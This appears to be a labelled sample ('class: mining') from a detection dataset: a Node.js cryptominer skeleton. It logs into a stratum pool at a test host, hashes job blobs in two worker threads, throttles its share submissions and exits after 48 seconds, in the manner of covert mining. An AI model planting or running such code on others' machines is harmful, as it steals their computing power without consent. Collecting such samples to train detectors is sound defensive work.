// class: mining; possible: low medium
const { Worker, isMainThread, parentPort, workerData } = require('worker_threads');
const net = require('net'), crypto = require('crypto');
if (!isMainThread) {
  let n = workerData.start >>> 0;
  const round = () => {
    const t = Date.now();
    while (Date.now() - t < 400) {
      const b = Buffer.from(workerData.blob, 'hex'); b.writeUInt32LE(n++ >>> 0, 39);
      const h = crypto.createHash('sha256').update(crypto.createHash('sha256').update(b).digest()).digest();
      if (h[31] === 0 && h[30] < 4) parentPort.postMessage({ nonce: n, result: h.toString('hex') });
    }
    setImmediate(round);
  };
  round();
} else {
  const sock = net.connect(3334, 'pool.coin.test');
  let id = 0, last = 0, rig;
  const say = (method, params) => sock.write(JSON.stringify({ id: ++id, jsonrpc: '2.0', method, params }) + '\n');
  sock.on('connect', () => say('login', { login: '4Bxyz', pass: 'rig7', agent: 'xmrig-node/1', algo: ['rx/0'] }));
  let rest = '';
  sock.on('data', d => {
    rest += d;
    let at;
    while ((at = rest.indexOf('\n')) >= 0) {
      const m = JSON.parse(rest.slice(0, at)); rest = rest.slice(at + 1);
      if (m.result && m.result.job) {
        rig = m.result.id;
        for (let i = 0; i < 2; i++) {
          const w = new Worker(__filename, { workerData: { blob: m.result.job.blob, start: i * 1e8 } });
          w.on('message', s => {
            if (Date.now() - last < 1500) return;
            last = Date.now();
            say('submit', { id: rig, job_id: m.result.job.job_id, ...s });
          });
        }
      }
    }
  });
  setTimeout(() => process.exit(0), 48000);
}
